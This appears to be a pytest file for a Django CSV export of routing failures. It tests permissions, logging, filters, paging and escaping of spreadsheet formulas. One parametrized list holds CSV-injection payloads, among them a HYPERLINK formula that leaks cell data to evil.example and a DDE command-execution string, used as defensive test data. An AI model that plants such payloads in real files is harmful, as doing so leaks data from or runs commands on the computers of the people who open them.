"""The failure list as a file: who gets it, what is in it, and that no spreadsheet runs any of it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, timedelta
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.test import AsyncClient, Client

from errors import export
from tests.errors.stored import LIST, references, staff, store

EXPORT = f"{LIST}export/"
CANARY = "my-secret-message-text"

pytestmark = pytest.mark.django_db


@pytest.fixture
def dora() -> Client:
    """Staff who may export."""
    return exporter("dora")


def exporter(name: str, *, may_view: bool = True) -> Client:
    client = staff(name, may_view=may_view)
    user = get_user_model().objects.get(username=name)
    user.user_permissions.add(Permission.objects.get(codename="export_routingfailure"))
    return client


def rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))


class TestAccess:
    def test_needs_both_permissions(self, dora: Client) -> None:
        alice = Client()
        alice.force_login(get_user_model().objects.create_user("alice"))
        expected = [
            (Client(), 302),
            (alice, 302),
            (staff("mallory", may_view=False), 403),
            (staff("carol"), 403),
            (exporter("erin", may_view=False), 403),
            (dora, 200),
            (staff("root", may_view=False, is_superuser=True), 200),
        ]
        for client, status in expected:
            assert client.get(EXPORT).status_code == status

    def test_is_offered_to_those_who_may_and_where_there_is_something(self, dora: Client) -> None:
        assert EXPORT not in dora.get(LIST).content.decode()
        store()
        assert f'href="{EXPORT}?code=LLM_UNAVAILABLE"' in dora.get(f"{LIST}?code=LLM_UNAVAILABLE").content.decode()
        assert "Export 1 failure as CSV" in dora.get(LIST).content.decode()
        html = staff("carol").get(LIST).content.decode()
        assert EXPORT not in html
        assert "you need the permission “Can export routing failures”" in html

    def test_leaves_a_line_in_the_log(self, dora: Client, log_lines: list[dict[str, Any]]) -> None:
        dora.get(EXPORT, {"code": "LLM_TIMEOUT"})
        (line,) = [line for line in log_lines if line["event"] == "errors.failures_exported"]
        assert line["filters"] == "code=LLM_TIMEOUT"
        assert line["user_id"] == str(get_user_model().objects.get(username="dora").pk)


class TestContent:
    def test_has_the_facts_of_each_failure_newest_first(self, dora: Client) -> None:
        old = store("TOO_MANY_REQUESTS", ago=timedelta(minutes=5), retry_after_ms=4_200, attempt=2, field="content")
        new = store("LLM_TIMEOUT")
        response = dora.get(EXPORT)
        first, second = rows(response)
        assert (first["reference"], second["reference"]) == (new.reference, old.reference)
        assert second["occurred_at"] == old.occurred_at.astimezone(UTC).isoformat(timespec="milliseconds")
        assert {**second, "occurred_at": ""} == {
            "reference": old.reference, "occurred_at": "", "code": "TOO_MANY_REQUESTS", "category": "rate_limit",
            "stage": "reply", "outcome": "saved", "recoverable": "True", "field": "content", "retry_after_ms": "4200",
            "attempt": "2", "message_type": "user_message", "user_id": "1", "session_id": "session-of-alice",
            "connection_id": "connection-of-alice", "ref": "", "reply_id": "", "in_reply_to": "",
            "cause_type": "TimeoutError", "fingerprint": "0123456789abcdef", "deliveries": "1", "drops": "0",
        }  # fmt: skip
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="failures-2')
        assert "no-store" in response["Cache-Control"]

    @pytest.mark.parametrize(
        "query",
        [{"code": "LLM_TIMEOUT"}, {"category": "rate_limit"}, {"when": "24h"}, {"q": "session-of-bob"}, {}],
    )
    def test_is_what_the_list_shows(self, dora: Client, query: dict[str, str]) -> None:
        store("LLM_TIMEOUT")
        store("TOO_MANY_REQUESTS", session_id="session-of-bob")
        store(ago=timedelta(days=3))
        shown = references(dora.get(LIST, query))
        assert shown
        assert [row["reference"] for row in rows(dora.get(EXPORT, query))] == shown

    @pytest.mark.parametrize("query", [{"when": "never"}, {"traceback__contains": "x"}, {"user_id": "\x00"}])
    def test_narrows_by_nothing_else(self, dora: Client, query: dict[str, str]) -> None:
        store()
        response = dora.get(EXPORT, query, follow=True)
        assert (
            response.status_code == 400 or "This address has a filter that cannot be read" in response.content.decode()
        )

    def test_holds_no_text_of_an_exception_or_a_message(self, dora: Client) -> None:
        texts = {"cause": f"ValueError: {CANARY}", "traceback": CANARY, "frame": CANARY}
        store(causes=[{"type": "ValueError", "message": CANARY, "where": ""}], **texts)
        assert CANARY not in dora.get(EXPORT).getvalue().decode()

    def test_reads_every_row_once_over_many_pages(self, dora: Client, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(export, "_PAGE_ROWS", 3)
        moment = store().occurred_at
        stored = {store(occurred_at=moment - timedelta(seconds=number // 4)).reference for number in range(20)}
        found = [row["reference"] for row in rows(dora.get(EXPORT))]
        assert len(found) == 21
        assert stored < set(found)

    def test_says_when_it_is_not_complete(self, dora: Client, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(export, "MAX_ROWS", 3)
        for _ in range(3):
            store()
        assert len(rows(dora.get(EXPORT))) == 3
        newest = store()
        *kept, note = rows(dora.get(EXPORT))
        assert len(kept) == 3
        assert kept[0]["reference"] == newest.reference
        assert note["reference"].startswith("Not complete: the newest 3 of more.")

    def test_costs_the_same_for_one_row_and_for_a_hundred(self, dora: Client, django_assert_num_queries: Any) -> None:
        store()
        dora.get(EXPORT).getvalue()
        for _ in range(99):
            store()
        # login session, user, two for permissions, the list's count, one page of rows, the page after it
        with django_assert_num_queries(7):
            assert len(rows(dora.get(EXPORT))) == 100


class TestFormulas:
    @pytest.mark.parametrize(
        "text",
        [
            "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\"=1", "'=1", " \" =1", "＝1", "\ufeff=1",
            '=HYPERLINK("http://evil.example?"&A1)', "\tplain", "\rplain", "=cmd|' /C calc'!A0", "-2+3", "\u00a0=1",
        ],
    )  # fmt: skip
    def test_no_cell_starts_one(self, dora: Client, text: str) -> None:
        store(session_id=text, user_id=text, message_type=text)
        (row,) = rows(dora.get(EXPORT))
        for name in ("session_id", "user_id", "message_type"):
            assert row[name] == f"'{text}"

    @pytest.mark.parametrize(
        "text", ["plain", "a=b", "E-7KQ4-M2XW", "1-2", "", 'a "quote", a comma', "two\nlines", "'"]
    )
    def test_other_text_stays_as_it_is(self, dora: Client, text: str) -> None:
        store(session_id=text)
        (row,) = rows(dora.get(EXPORT))
        assert row["session_id"] == text


@pytest.mark.django_db(transaction=True)
class TestOverAsgi:
    async def test_is_streamed(self, monkeypatch: pytest.MonkeyPatch, recwarn: pytest.WarningsRecorder) -> None:
        monkeypatch.setattr(export, "_PAGE_ROWS", 3)
        dora = await sync_to_async(exporter)("dora")
        stored = {(await sync_to_async(store)()).reference for _ in range(10)}
        browser = AsyncClient()
        browser.cookies = dora.cookies
        response = await browser.get(EXPORT)
        parts = [part async for part in response]
        found = csv.DictReader(io.StringIO(b"".join(parts).decode()))
        assert {row["reference"] for row in found} == stored
        assert len(parts) == 1 + 4
        assert not [warning for warning in recwarn if "asynchronous" in str(warning.message)]
